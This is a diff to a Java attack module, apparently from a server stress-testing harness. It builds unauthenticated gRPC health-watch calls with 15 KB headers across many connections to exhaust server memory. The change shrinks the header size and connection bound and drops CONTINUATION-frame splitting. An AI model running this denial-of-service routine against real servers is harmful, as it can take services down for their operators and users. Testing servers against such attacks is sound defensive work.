@@ -5,11 +5,10 @@ import dev.sluice.attacks.wire.Grpc;
 import dev.sluice.attacks.wire.Http2;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
-import java.util.Arrays;
 import java.util.List;
 
 /**
- * Watches health on many connections, with headers of 30 KB that gRPC keeps as long as a call is
+ * Watches health on many connections, with headers of 15 KB that gRPC keeps as long as a call is
  * open.
  */
 final class LargeWatchHeaders extends Attack {
@@ -18,12 +17,12 @@ final class LargeWatchHeaders extends Attack {
   /** As many health calls as a connection may have open. */
   private static final int STREAMS = 8;
 
-  private static final int VALUE_BYTES = 30_000;
+  private static final int VALUE_BYTES = 15_000;
   private static final byte[] HEADERS =
       Grpc.headers(Grpc.HEALTH_WATCH, "", List.of("grpc-accept-encoding", "x".repeat(VALUE_BYTES)));
 
   LargeWatchHeaders() {
-    super("health-large-headers", Family.MEMORY, Access.NO_KEY, Bounds.of(CONNECTIONS, 320, 128));
+    super("health-large-headers", Family.MEMORY, Access.NO_KEY, Bounds.of(CONNECTIONS, 160, 128));
   }
 
   @Override
@@ -37,11 +36,8 @@ final class LargeWatchHeaders extends Attack {
     ByteArrayOutputStream calls = new ByteArrayOutputStream();
     for (int i = 0; i < STREAMS; i++) {
       int stream = connection.newStream();
-      byte[] begin = Arrays.copyOf(HEADERS, Http2.FRAME_BYTES);
-      byte[] rest = Arrays.copyOfRange(HEADERS, Http2.FRAME_BYTES, HEADERS.length);
       byte[] request = Grpc.message(new byte[0]);
-      calls.writeBytes(new Frame(Frame.HEADERS, 0, stream, begin).encode());
-      calls.writeBytes(new Frame(Frame.CONTINUATION, Frame.END_HEADERS, stream, rest).encode());
+      calls.writeBytes(new Frame(Frame.HEADERS, Frame.END_HEADERS, stream, HEADERS).encode());
       calls.writeBytes(new Frame(Frame.DATA, Frame.END_STREAM, stream, request).encode());
     }
     connection.send(calls.toByteArray());
